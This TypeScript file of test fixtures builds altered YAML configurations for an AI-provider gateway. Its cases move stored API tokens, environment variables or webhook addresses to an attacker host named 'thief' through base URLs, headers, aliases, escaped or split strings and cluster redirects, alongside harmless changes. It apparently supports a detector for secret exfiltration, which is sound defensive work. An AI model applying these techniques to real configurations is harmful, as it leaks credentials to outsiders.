// Ways to have a stored secret, or a variable that the file names, sent to a host of one's own by a change of the configuration.

/** Of a file with two providers, `qwen` first, whose tokens are `${FILES_TOKEN}` and the secret behind the mark. */
export function movedSecrets(yaml: string, mark: string, baseUrl: string, thief: string): [what: string, changed: string][] {
  const added = (provider: string) => withProvider(yaml, provider);
  const route = (model: string) =>
    `${yaml}  - name: stolen\n    match: { model: stolen }\n    targets: [{ provider: qwen, model: "${model}" }]\n`;
  return [
    ["its provider's address", yaml.replaceAll(baseUrl, thief)],
    ["its provider's host in the clear", yaml.replaceAll(baseUrl, baseUrl.replace("http:", "https:"))],
    ["another provider", added(`baseUrl: "${thief}", apiTokens: ["${mark}"]`)],
    ["a variable elsewhere", added(`baseUrl: "${thief}", apiTokens: ["\${FILES_TOKEN}"]`)],
    ["a header", added(`baseUrl: "${thief}", apiTokens: [x], headers: { x-a: "a ${mark}" }`)],
    ["the address itself", added(`baseUrl: "${thief}/\${FILES_TOKEN}", apiTokens: [x]`)],
    ["an alias", added(`baseUrl: &u "${thief}", apiTokens: &t ["${mark}"]`)],
    ["the type's own address", added(`apiTokens: ["${mark}"]`)],
    ["a model's name", added(`baseUrl: "${thief}", apiTokens: [x], modelMapping: { "*": "${mark}" }`)],
    ["a route's model", route("${FILES_TOKEN}")],
    ["a route's model that is a secret", route(mark)],
    ["the key of a mapping", added(`baseUrl: "${thief}", apiTokens: [x], modelMapping: { "${mark}": m }`)],
    ["a key of Higress's", added(`baseUrl: "${thief}", apiTokens: [x], hunyuanAuthKey: "${mark}"`)],
    ["a path", added(`baseUrl: "${thief}", apiTokens: [x], basePath: "/\${FILES_TOKEN}"`)],
    ["Higress's form of an address", added(`openaiCustomUrl: "${thief}/chat/completions", apiTokens: ["${mark}"]`)],
    [
      "a rule's provider",
      `${yaml}_rules_:\n  - { _match_route_: [r], provider: { type: openai, baseUrl: "${thief}", apiTokens: ["${mark}"] } }\n`,
    ],
    ["a name that shows", `${yaml}stickyHeader: "\${FILES_TOKEN}"\n`],
    ["another kind of YAML", `%YAML 1.1\n---\n${added(`baseUrl: "${thief}", <<: { apiTokens: ["${mark}"] }`)}`],
    ["a text in pieces", added(`baseUrl: "${thief}", apiTokens: ["${mark.slice(0, 12)}\\\n      ${mark.slice(12)}"]`)],
    ["an escaped mark", added(`baseUrl: "${thief}", apiTokens: ["\\u005f${mark.slice(1)}"]`)],
  ];
}

/** Of the same file with a webhook `notify.url: ${HOOK}` and, in its route to `qwen`, `model: ${MODEL}`; `hook` stands for the webhook's address, or is one that stands there. */
export function movedElsewhere(yaml: string, hook: string, thief: string): [what: string, changed: string][] {
  const added = (provider: string) => withProvider(yaml, `baseUrl: "${thief}", ${provider}`);
  const typed = added("apiTokens: [x]");
  const route = (target: string) => `${typed}  - { name: stolen, match: { model: stolen }, ${target} }\n`;
  const noted = (url: string) => yaml.replace(/^notify: .*$/m, `notify: { url: "${url}", format: json }`);
  return [
    ["the webhook's address in another's", noted(`${thief}/?u=${hook}`)],
    ["the webhook's address as another's fragment", noted(`${thief}#${hook}`)],
    ["the webhook's address behind a name", noted(`${thief.replace("://", `://${hook}@`)}`)],
    ["a provider's variable in the webhook's address", noted(`${thief}/\${FILES_TOKEN}`)],
    ["a route's model in the webhook's address", noted(`${thief}/\${MODEL}`)],
    ["the webhook's address as a new provider's model", route(`provider: new, model: "${hook}"`)],
    ["the webhook's address as a known provider's model", route(`provider: qwen, model: "${hook}"`)],
    ["the webhook's address as a model behind a comma", route(`provider: qwen, model: "m,${hook}"`)],
    ["the webhook's address in a list of targets", route(`targets: [{ provider: qwen }, { provider: new, model: "${hook}" }]`)],
    ["the webhook's address as a fallback's model", route(`provider: qwen, fallbacks: [{ provider: new, model: "${hook}" }]`)],
    ["the webhook's address as a token", added(`apiTokens: ["${hook}"]`)],
    ["the webhook's address as a route's name for models", route(`provider: qwen`).replace("model: stolen", `model: "${hook}"`)],
    ["the webhook's address as a header's name", `${yaml}stickyHeader: "${hook}"\n`],
    ["a route's model at a new provider", typed.replace(/provider: qwen, model: (.*MODEL\}"?)/, "provider: new, model: $1")],
    ["a route's model at a new fallback", route('provider: qwen, fallbacks: [{ provider: new, model: "${MODEL}" }]')],
    ["a route's model as a header's name", `${yaml}stickyHeader: "\${MODEL}"\n`],
  ];
}

/** Changes of that file that send nothing elsewhere. */
export function keptElsewhere(yaml: string, hook: string, thief: string): [what: string, changed: string][] {
  const more = (route: string) => `${yaml}  - { name: more, match: { model: more }, ${route} }\n`;
  const noted = (notify: string) => yaml.replace(/^notify: .*$/m, `notify: ${notify}`);
  return [
    ["another form of the webhook's messages", noted(`{ format: slack, url: "${hook}", events: [allBack] }`)],
    ["another address that is typed", noted(`{ url: "${thief}" }`)],
    ["no webhook", noted("").replace("notify: \n", "")],
    ["a route's new name", yaml.replace("name: all", "name: everything")],
    ["a route before it", yaml.replace("routes:\n", "routes:\n  - { name: first, match: { model: first }, provider: qwen }\n")],
    ["the model in another route to the provider", more('targets: [{ provider: qwen, model: "${MODEL}", weight: 2 }]')],
    ["the model in a fallback to the provider", more('provider: qwen, fallbacks: [{ provider: qwen, model: "${MODEL}" }]')],
    ["a new provider beside it", withProvider(yaml, `baseUrl: "${thief}", apiTokens: [x]`)],
    [
      "a new fallback that says nothing of it",
      withProvider(more("provider: qwen, fallbacks: [{ provider: new, model: m }]"), `baseUrl: "${thief}", apiTokens: [x]`),
    ],
  ];
}

/** The secret stays where it is, and what is asked for it goes elsewhere: names of clusters lead to addresses. */
export function movedClusters(yaml: string, thief: string): [what: string, changed: string][] {
  const added = (cluster: string) => withProvider(yaml, `baseUrl: "${thief}", apiTokens: [x], cluster: "${cluster}"`);
  const exchanged = (cluster: string) => {
    const keys = `azureTenantId: t, azureClientId: c, azureClientSecret: s, azureAuthorityHost: "${new URL(thief).origin}"`;
    return yaml.replace(
      "providers:\n",
      `providers:\n  - { id: new, type: azure, baseUrl: "${thief}", ${keys}, tokenCluster: "${cluster}" }\n`,
    );
  };
  const fetched = (cluster: string) =>
    withProvider(yaml, `baseUrl: "${thief}", apiTokens: [x], context: { fileUrl: "${thief}/a.txt", cluster: "${cluster}" }`);
  return [
    ["the provider's own cluster", added("qwen")],
    ["the cluster behind it", added("qwen/provider")],
    ["the cluster that it will have", added("qwen~2")],
    ["the redirector", added("redirector")],
    ["the inner hop", added("ai-failover/hop")],
    ["an exchange in the provider's own cluster", exchanged("qwen")],
    ["an exchange in the cluster behind it", exchanged("qwen/provider")],
    ["a file in the provider's own cluster", fetched("qwen")],
    ["a file in the cluster behind it", fetched("qwen/provider")],
  ];
}

export function withProvider(yaml: string, provider: string): string {
  return yaml.replace("providers:\n", `providers:\n  - { id: new, type: openai, ${provider} }\n`);
}
